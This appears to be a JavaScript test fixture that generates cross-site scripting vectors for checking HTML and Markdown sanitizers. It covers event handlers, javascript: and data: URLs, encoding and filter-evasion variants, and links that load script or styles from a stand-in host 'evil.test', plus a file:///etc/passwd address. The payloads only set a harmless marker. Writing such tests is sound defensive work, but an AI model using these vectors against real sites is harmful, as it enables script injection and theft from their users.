/** Texts that would do something in a page that took them for more than text: markup, addresses, and ways around filters. */

/** What a vector does when it works. */
const DO = 'top.__hit=self.__hit=1';
/** Where a vector calls when it works; nobody is there. */
const AWAY = 'http://evil.test';

const HANDLERS = [
  'onerror',
  'onload',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onbegin',
  'onpointerenter',
  'onanimationstart',
];

const ELEMENTS = [
  (on) => `<img src=x ${on}="${DO}">`,
  (on) => `<svg ${on}=${DO}>`,
  (on) => `<svg><animate ${on}=${DO} attributeName=x dur=1s>`,
  (on) => `<input autofocus ${on}="${DO}">`,
  (on) => `<details open ${on}=${DO}>x</details>`,
  (on) => `<video src=x ${on}=${DO}></video>`,
  (on) => `<body ${on}=${DO}>`,
  (on) => `<iframe ${on}=${DO}></iframe>`,
  (on) => `<marquee ${on}=${DO}>x</marquee>`,
  (on) => `<math><mtext><img src=x ${on}=${DO}></mtext></math>`,
];

const WHOLE = [
  `<script>${DO}</script>`,
  `<ScRiPt>${DO}</sCrIpT>`,
  `<script src=${AWAY}/x.js></script>`,
  `<iframe src="javascript:${DO}"></iframe>`,
  `<iframe srcdoc="<script>${DO}</script>"></iframe>`,
  `<object data="data:text/html,<script>${DO}</script>"></object>`,
  `<embed src="javascript:${DO}">`,
  `<form action="javascript:${DO}"><button>x</button></form>`,
  `<button formaction="javascript:${DO}">x</button>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${DO}">`,
  `<base href="${AWAY}/">`,
  `<link rel="stylesheet" href="${AWAY}/x.css">`,
  `<style>@import '${AWAY}/x.css';</style>`,
  `<div style="background:url(${AWAY}/x.png)">x</div>`,
  `<template><script>${DO}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${DO}>"></noscript>`,
  `<xmp><img src=x onerror=${DO}></xmp>`,
  `<math><mi//xlink:href="data:x,<script>${DO}</script>">`,
  `<svg><script>${DO}</script></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${DO}</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<!--<img src="--><img src=x onerror=${DO}>">`,
  `<a href="javascript:${DO}">x</a>`,
  `"><img src=x onerror=${DO}>`,
  `'><img src=x onerror=${DO}>`,
  `</textarea></title></style></script><img src=x onerror=${DO}>`,
  `<img src="x\` \`onerror=${DO}">`,
  `<<img src=x onerror=${DO}>`,
  `<img/src=x/onerror=${DO}>`,
  `<img src=x:x onerror\n=\n${DO}>`,
  `&lt;img src=x onerror=${DO}&gt;`,
  `&#60;img src=x onerror=${DO}&#62;`,
  `{{constructor.constructor('${DO}')()}}`,
  `\${${DO}}`,
];

/** Ways to write an address that runs, or that calls home. */
const ADDRESSES = [
  `javascript:${DO}`,
  `JaVaScRiPt:${DO}`,
  `java\tscript:${DO}`,
  `java\nscript:${DO}`,
  `\u0001javascript:${DO}`,
  ` javascript:${DO}`,
  `&#106;avascript:${DO}`,
  `javascript&colon;${DO}`,
  `javascript&#58;${DO}`,
  `%6aavascript:${DO}`,
  `vbscript:${DO}`,
  `data:text/html,<script>${DO}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${DO}</script>`).toString('base64')}`,
  `data:image/svg+xml,<svg onload=${DO} xmlns="http://www.w3.org/2000/svg"/>`,
  `blob:${DO}`,
  `file:///etc/passwd`,
  `//evil.test/x" onclick="${DO}`,
  `http://evil.test/" onmouseover="${DO}" x="`,
  `http://evil.test/'onmouseover='${DO}`,
  `http://evil.test/\`onmouseover=${DO}`,
];

const MARKDOWN = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x]: ${address}\n\n[x]`,
  (address) => `[x](${address} "t")`,
  (address) => `**[*x*](${address})**`,
  (address) => `\`[x](${address})\` [y](${address})`,
  (address) => `> [x](${address})`,
  (address) => `- [x](${address})`,
];

export const VECTORS = [
  ...WHOLE,
  ...HANDLERS.flatMap((on) => ELEMENTS.map((element) => element(on))),
  ...ADDRESSES.flatMap((address) => MARKDOWN.map((form) => form(address))),
];

/** A few, for where one text has to do. */
export const WORST = WHOLE.slice(0, 8).join(' ');
